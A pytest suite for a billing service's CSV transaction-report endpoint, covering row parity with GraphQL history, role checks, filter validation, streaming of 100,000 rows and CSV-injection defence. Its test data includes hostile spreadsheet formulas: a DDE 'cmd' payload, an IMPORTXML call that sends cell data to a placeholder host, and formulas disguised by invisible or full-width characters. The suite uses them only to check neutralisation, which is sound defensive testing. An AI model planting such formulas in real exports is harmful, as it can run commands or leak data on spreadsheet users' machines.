"""GET /reports/transactions.csv: the GraphQL history, row for row, streamed; who may read
it; its filters as query parameters; CSV injection; and 100,000 rows in bounded memory."""

from __future__ import annotations

import asyncio
import csv
import io
import tracemalloc
import uuid
from collections.abc import MutableMapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette

from api.reports import COLUMNS
from billing.enums import ProcessType, Role, TransactionType
from tests.api.test_history import walk
from tests.conftest import Caller, MakeCaller
from tests.support.bulk import Spec, insert_entries
from tests.support.ops import GRANT, add_card, buy, consume, key

Node = dict[str, Any]
PATH = "/reports/transactions.csv"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


# ---------------------------------------------------------------- helpers


def cell(text: str | None) -> str:
    """What the report writes for user text (a formula-looking cell gets a leading ')."""
    if not text:
        return ""
    return "'" + text if text.startswith(FORMULA) else text


def expected_row(node: Node) -> list[str]:
    return [
        node["id"],
        node["createdAt"],
        node["type"],
        node["processType"],
        str(node["credits"]),
        str(node["balanceAfter"]),
        cell(node["user"]["userId"] if node["user"] else None),
        cell(node["description"]),
        cell(node["reference"]),
        node["payment"]["id"] if node["payment"] else "",
    ]


def query_params(flt: dict[str, Any] | None, *, comma: bool) -> list[tuple[str, str]]:
    """A GraphQL filter as query parameters: lists repeated, or comma-separated."""
    params: list[tuple[str, str]] = []
    for name, value in (flt or {}).items():
        if isinstance(value, list):
            if comma:
                params.append((name, ",".join(value)))
            else:
                params.extend((name, item) for item in value)
        else:
            params.append((name, value))
    return params


async def get_csv(
    who: Caller | None, params: list[tuple[str, str]] | None = None, token: str | None = None
) -> httpx.Response:
    headers = {}
    if who is not None or token is not None:
        headers["Authorization"] = f"Bearer {token or (who.token if who else '')}"
    http = who.http if who is not None else None
    assert http is not None
    return await http.get(PATH, params=tuple(params or ()), headers=headers)


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


async def report_rows(who: Caller, params: list[tuple[str, str]] | None = None) -> list[list[str]]:
    response = await get_csv(who, params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = parse(response.text)
    assert rows[0] == list(COLUMNS)
    return rows[1:]


TRICKY_TEXT = [
    "=1+2",
    "+SUM(A1:A9)",
    "-10 credits",
    "@cmd",
    "\tindented",
    "plain, with a comma",
    'a "quoted" word',
    "two\nlines",
    "ünïcødé ✓",
    "order 50% off",
    "batch_7",
    '=HYPERLINK("http://example.com","click")',
]
USERS = ["user-a", "user-b", "=user-c", None]
SPENDING = [
    ProcessType.HANDWRITTEN_LETTER,
    ProcessType.POSTCARD,
    ProcessType.ADVANCED_EMAIL_TEST,
    ProcessType.PROSPECT_SEARCH,
    ProcessType.SOCIAL_MEDIA_APPEND,
]


def varied(i: int) -> Spec:
    """A mixed history: grants, spends of every kind by several users, adjustments, with
    descriptions and references that CSV and spreadsheets find awkward."""
    text = TRICKY_TEXT[(i // 4) % len(TRICKY_TEXT)]
    if i % 2 == 0:
        return Spec(
            credits=7,
            type=TransactionType.GRANT if i % 6 else TransactionType.ADJUSTMENT,
            description=f"grant {i}: {text}" if i % 4 else text,
            user_id="staff-1",
        )
    return Spec(
        credits=-3,
        type=TransactionType.USAGE,
        process_type=SPENDING[i % len(SPENDING)],
        description=f"{SPENDING[i % len(SPENDING)].value.lower()} x1",
        user_id=USERS[i % len(USERS)],
        reference=None if i % 5 == 0 else TRICKY_TEXT[(i * 7) % len(TRICKY_TEXT)],
        quantity=1,
    )


@pytest.fixture
async def three_hundred(
    admin: Caller, staff: Caller, service: Caller, caller: MakeCaller
) -> list[Node]:
    """An account of 300 entries: 292 written straight to the table, then real traffic (a
    grant, spends with formula-like references, a card purchase). Returns its GraphQL
    history, newest first."""
    await admin.gql("{ viewer { userId } }")  # provisions the account
    day_ago = datetime.now(UTC) - timedelta(days=1)
    await insert_entries(admin.account_id, 292, varied, first_at=day_ago)
    data = await staff.gql(
        GRANT,
        {
            "input": {
                "accountId": admin.account_id,
                "credits": 500,
                "reason": '=IMPORTXML(CONCAT("http://x/?",A1))',
                "idempotencyKey": key(),
            }
        },
    )
    assert data["grantCredits"]["errors"] == []
    for reference in ("@SUM(1+1)", "-2+3", "plain ref", "=cmd|' /C calc'!A0"):
        spent = await consume(service, "POSTCARD", userId="user-b", reference=reference)
        assert spent["errors"] == [], spent
    await add_card(admin)
    for _ in range(2):
        bought = await buy(admin, 1000)
        assert bought["errors"] == [] and bought["payment"]["status"] == "SUCCEEDED", bought
    spent = await consume(service, "HANDWRITTEN_LETTER", userId="user-a", reference="+1")
    assert spent["errors"] == []
    nodes = await walk(admin, 100)
    assert len(nodes) == 300  # 292 written straight, a grant, 5 spends, 2 purchases
    return nodes


# ---------------------------------------------------------------- row for row


def _filters(nodes: list[Node]) -> list[dict[str, Any] | None]:
    oldest_first = list(reversed(nodes))
    lo, hi = oldest_first[40]["createdAt"], oldest_first[250]["createdAt"]
    recent = oldest_first[-5]["createdAt"]
    return [
        None,
        {"types": ["USAGE"]},
        {"types": ["GRANT", "ADJUSTMENT"]},
        {"types": ["PURCHASE"]},
        {"types": ["REFUND"]},
        {"processTypes": ["POSTCARD"]},
        {"processTypes": ["PROSPECT_SEARCH", "ADMINISTRATIVE", "MANUAL_PURCHASE"]},
        {"userIds": ["user-a"]},
        {"userIds": ["user-b", "=user-c"]},
        {"userIds": ["nobody"]},
        {"search": "comma"},
        {"search": "50%"},
        {"search": "h_7"},
        {"search": "=1"},
        {"search": "QUOTED"},
        {"search": "ünïcødé"},
        {"search": "calc"},
        {"from": lo},
        {"to": hi},
        {"from": lo, "to": hi},
        {"from": recent},
        {"types": ["USAGE"], "userIds": ["user-b"], "search": "postcard", "from": lo},
        {"types": [], "processTypes": [], "userIds": [], "search": ""},
    ]


async def test_report_matches_the_graphql_history_for_every_filter(
    admin: Caller, three_hundred: list[Node]
) -> None:
    full = [expected_row(n) for n in three_hundred]
    assert await report_rows(admin) == full
    sizes = set()
    for number, flt in enumerate(_filters(three_hundred)):
        expected = [expected_row(n) for n in await walk(admin, 100, flt)]
        got = await report_rows(admin, query_params(flt, comma=number % 2 == 1))
        assert got == expected, flt
        sizes.add(len(got))
        if flt and any(isinstance(v, list) and len(v) > 1 for v in flt.values()):
            # the other spelling of the lists gives the same
            assert await report_rows(admin, query_params(flt, comma=number % 2 == 0)) == got
    assert len(sizes) > 10  # the filters did filter
    assert 0 in sizes and 300 in sizes


async def test_report_columns_and_csv_injection(admin: Caller, three_hundred: list[Node]) -> None:
    rows = await report_rows(admin)
    by_id = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in rows}
    for node in three_hundred:
        row = by_id[node["id"]]
        assert datetime.fromisoformat(row["createdAt"]) == datetime.fromisoformat(node["createdAt"])
        assert datetime.fromisoformat(row["createdAt"]).utcoffset() == timedelta(0)
        assert int(row["credits"]) == node["credits"]  # signed, never quoted
        for column in ("description", "reference", "userId"):
            assert not row[column].startswith(FORMULA), row
    formulas = [n for n in three_hundred if n["description"].startswith(FORMULA)]
    assert {n["description"][0] for n in formulas} >= {"=", "+", "-", "@", "\t"}
    for node in formulas:
        assert by_id[node["id"]]["description"] == "'" + node["description"]
    grant = next(n for n in three_hundred if "IMPORTXML" in n["description"])
    assert by_id[grant["id"]]["description"] == grant["description"]  # "Grant: =IMPORT..."
    spend = next(n for n in three_hundred if n["reference"] == "@SUM(1+1)")
    assert by_id[spend["id"]]["reference"] == "'@SUM(1+1)"
    assert by_id[spend["id"]]["credits"].startswith("-")
    purchases = [n for n in three_hundred if n["type"] == "PURCHASE"]
    assert len(purchases) == 2
    for node in purchases:
        assert by_id[node["id"]]["paymentId"] == node["payment"]["id"] != ""
    assert any("\n" in row["description"] for row in by_id.values())  # quoted, kept whole


async def test_report_response_headers(admin: Caller, staff: Caller) -> None:
    await staff.gql(
        GRANT,
        {
            "input": {
                "accountId": admin.account_id,
                "credits": 5,
                "reason": "x",
                "idempotencyKey": key(),
            }
        },
    )
    response = await get_csv(admin)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="transactions-')
    assert response.headers["cache-control"] == "no-store"
    assert response.text.startswith(",".join(COLUMNS) + "\r\n")
    assert len(parse(response.text)) == 2


async def test_empty_report_has_its_header(admin: Caller) -> None:
    assert await report_rows(admin) == []


# ---------------------------------------------------------------- who may read it


async def test_report_needs_a_valid_token(admin: Caller, http: httpx.AsyncClient) -> None:
    response = await http.get(PATH)
    assert response.status_code == 401
    assert response.headers["www-authenticate"].startswith("Bearer")
    response = await http.get(PATH, headers={"Authorization": "Bearer not-a-token"})
    assert response.status_code == 401
    response = await http.get(PATH, headers={"Authorization": f"Basic {admin.token}"})
    assert response.status_code == 401


@pytest.mark.parametrize(
    "roles", [(Role.USER,), (Role.SERVICE,), ()], ids=["user", "service", "none"]
)
async def test_report_refuses_non_admins(
    caller: MakeCaller, account_id: str, roles: tuple[Role, ...]
) -> None:
    who = caller(account_id, *roles)
    response = await get_csv(who)
    assert response.status_code == 403, response.text
    assert "admin" in response.json()["error"]


async def test_admin_may_not_name_another_account(admin: Caller) -> None:
    response = await get_csv(admin, [("accountId", "someone-else")])
    assert response.status_code == 403
    own = await get_csv(admin, [("accountId", admin.account_id)])
    assert own.status_code == 200


async def test_billing_staff_names_the_account(
    admin: Caller, staff: Caller, service: Caller, caller: MakeCaller
) -> None:
    await staff.gql(
        GRANT,
        {
            "input": {
                "accountId": admin.account_id,
                "credits": 50,
                "reason": "staff check",
                "idempotencyKey": key(),
            }
        },
    )
    assert (await consume(service, "POSTCARD"))["errors"] == []
    other = caller(f"other-{uuid.uuid4().hex[:8]}", Role.ADMIN)
    await other.gql("{ viewer { userId } }")

    response = await get_csv(staff)
    assert response.status_code == 400
    assert "accountId" in response.json()["error"]

    staff_rows = await report_rows(staff, [("accountId", admin.account_id)])
    assert staff_rows == await report_rows(admin)
    assert len(staff_rows) == 2
    assert await report_rows(other) == []  # another account sees none of them


# ---------------------------------------------------------------- bad filters


@pytest.mark.parametrize(
    ("params", "words"),
    [
        ([("types", "USAGE,BOGUS")], ["types", "BOGUS"]),
        ([("processTypes", "postcard")], ["processTypes", "postcard"]),
        ([("from", "yesterday")], ["from", "RFC 3339"]),
        ([("to", "2026-13-01T00:00:00Z")], ["to"]),
        ([("from", "2026-03-02T00:00:00Z"), ("to", "2026-03-01T00:00:00Z")], ["before"]),
        ([("from", "2026-03-01T02:00:00+02:00"), ("to", "2026-03-01T00:00:00Z")], ["before"]),
        ([("search", "s" * 201)], ["search", "200"]),
        ([("userIds", ",".join(f"u{i}" for i in range(101)))], ["userIds", "100"]),
        ([("type", "USAGE")], ["unknown parameter", "'type'"]),
        ([("from", "2026-03-01T00:00:00Z"), ("from", "2026-03-02T00:00:00Z")], ["once"]),
    ],
    ids=[
        "bad-type",
        "lowercase-process",
        "bad-from",
        "bad-to",
        "from-after-to",
        "same-instant",
        "long-search",
        "too-many-users",
        "unknown-param",
        "repeated-from",
    ],
)
async def test_bad_filters_are_400(
    admin: Caller, params: list[tuple[str, str]], words: list[str]
) -> None:
    response = await get_csv(admin, params)
    assert response.status_code == 400, response.text
    message = response.json()["error"]
    for word in words:
        assert word in message, message


async def test_time_filters_take_offsets_and_unescaped_plus(admin: Caller, staff: Caller) -> None:
    data = await staff.gql(
        GRANT,
        {
            "input": {
                "accountId": admin.account_id,
                "credits": 5,
                "reason": "timed",
                "idempotencyKey": key(),
            }
        },
    )
    at = datetime.fromisoformat(data["grantCredits"]["transaction"]["createdAt"])
    local = at.astimezone(timezone(timedelta(hours=2)))
    assert len(await report_rows(admin, [("from", local.isoformat())])) == 1
    assert await report_rows(admin, [("to", local.isoformat())]) == []
    # "+02:00" written into a URL without escaping arrives as " 02:00"
    response = await admin.http.get(
        f"{PATH}?from={local.isoformat()}", headers={"Authorization": f"Bearer {admin.token}"}
    )
    assert response.status_code == 200, response.text
    assert len(parse(response.text)) == 2
    zulu = at.astimezone(UTC).isoformat().replace("+00:00", "Z")
    assert len(await report_rows(admin, [("from", zulu)])) == 1


# ---------------------------------------------------------------- 100,000 rows


@dataclass
class Stream:
    status: int = 0
    chunks: int = 0
    bytes: int = 0
    largest_chunk: int = 0
    rows: int = 0
    header: list[str] = field(default_factory=list)
    first: list[str] = field(default_factory=list)
    last: list[str] = field(default_factory=list)


async def stream_report(app: Starlette, token: str, query: str = "") -> Stream:
    """Call the app as an ASGI server would and read the body as it comes, keeping only
    counts and the first and last rows (httpx's ASGI transport would buffer it all)."""
    out = Stream()
    finished = asyncio.Event()
    requested = False

    async def receive() -> dict[str, Any]:
        nonlocal requested
        if not requested:
            requested = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await finished.wait()
        return {"type": "http.disconnect"}

    async def send(message: MutableMapping[str, Any]) -> None:
        if message["type"] == "http.response.start":
            out.status = message["status"]
            return
        body = message.get("body", b"")
        if body:
            out.chunks += 1
            out.bytes += len(body)
            out.largest_chunk = max(out.largest_chunk, len(body))
            rows = parse(body.decode("utf-8"))  # every chunk is whole rows
            if not out.header:
                out.header, rows = rows[0], rows[1:]
            if rows:
                if not out.first:
                    out.first = rows[0]
                out.last = rows[-1]
                out.rows += len(rows)
        if not message.get("more_body", False):
            finished.set()

    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.3"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": PATH,
        "raw_path": PATH.encode(),
        "query_string": query.encode(),
        "root_path": "",
        "headers": [(b"host", b"testserver"), (b"authorization", f"Bearer {token}".encode())],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    await app(scope, receive, send)
    return out


HUNDRED_K = 100_000


def _steady(i: int) -> Spec:
    if i % 3 == 0:
        return Spec(credits=5, description=f"bulk grant {i}", user_id="staff-1")
    return Spec(
        credits=-2,
        type=TransactionType.USAGE,
        process_type=ProcessType.PROSPECT_SEARCH,
        description="prospect search x1",
        user_id=f"user-{i % 7}",
        reference=f"=ref-{i}" if i % 10 == 1 else f"batch {i // 100}",
        quantity=1,
    )


# Writing 100,000 entries and reading them back took 118 s with the 2 cores loaded (load
# average 3.5): the suite-wide 120 s guard is too tight for it.
@pytest.mark.timeout(300)
async def test_hundred_thousand_rows_stream_in_bounded_memory(
    app: Starlette, admin: Caller, gateway_name: str
) -> None:
    if gateway_name != "sandbox":
        pytest.skip("the report does not touch the gateway: 100,000 rows once is enough")
    await admin.gql("{ viewer { userId } }")
    first_at = datetime.now(UTC) - timedelta(days=3)
    oldest, newest = await insert_entries(admin.account_id, HUNDRED_K, _steady, first_at=first_at)

    tracemalloc.start()
    try:
        out = await stream_report(app, admin.token)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert out.status == 200
    assert out.header == list(COLUMNS)
    assert out.rows == HUNDRED_K
    # Streamed: many pieces, none of them the body, and the server never held the body.
    assert out.chunks > 100
    assert out.largest_chunk < out.bytes / 50
    assert out.bytes > 10_000_000
    assert peak < out.bytes / 4, (peak, out.bytes)

    # The first and last rows are the GraphQL history's newest and oldest entries.
    newest_nodes = await walk_first(admin, None)
    assert out.first == expected_row(newest_nodes[0])
    oldest_only = {"to": (oldest.created_at + timedelta(microseconds=500)).isoformat()}
    oldest_nodes = await walk_first(admin, oldest_only)
    assert len(oldest_nodes) == 1
    assert out.last == expected_row(oldest_nodes[0])
    assert out.first[5] == str(newest.balance_after)

    # A filter streams the same way: a third of the rows are grants.
    grants = await stream_report(app, admin.token, "types=GRANT")
    assert grants.rows == len(range(0, HUNDRED_K, 3))
    assert grants.last == out.last


async def walk_first(who: Caller, flt: dict[str, Any] | None) -> list[Node]:
    from tests.api.test_history import history

    conn = await history(who, filter=flt, first=5)
    return [e["node"] for e in conn["edges"]]


DISGUISED = [
    '\n=HYPERLINK("http://x")',  # a line break first
    "  =1+1",  # leading spaces
    "\ufeff=1+1",  # a byte-order mark
    "\u200b+SUM(1)",  # a zero-width space
    "\uff1dSUM(1)",  # a full-width equals sign
    "\u3000@cmd",  # an ideographic space, then @
]


async def test_disguised_formulas_are_neutralised(
    admin: Caller, staff: Caller, service: Caller
) -> None:
    """Current guidance on CSV injection: a formula behind blanks, invisible characters or
    full-width signs still runs in some spreadsheets."""
    await admin.gql("{ viewer { userId } }")
    data = await staff.gql(
        GRANT,
        {
            "input": {
                "accountId": admin.account_id,
                "credits": 1000,
                "reason": "funds",
                "idempotencyKey": key(),
            }
        },
    )
    assert data["grantCredits"]["errors"] == []
    written = []
    for text in DISGUISED:
        spent = await consume(service, "POSTCARD", reference=text)
        if spent["errors"] == []:
            written.append(text)
    assert len(written) >= 5, written  # the API may refuse a line break in a reference
    references = [row[8] for row in await report_rows(admin)]
    for text in written:
        assert "'" + text in references, (text, references)
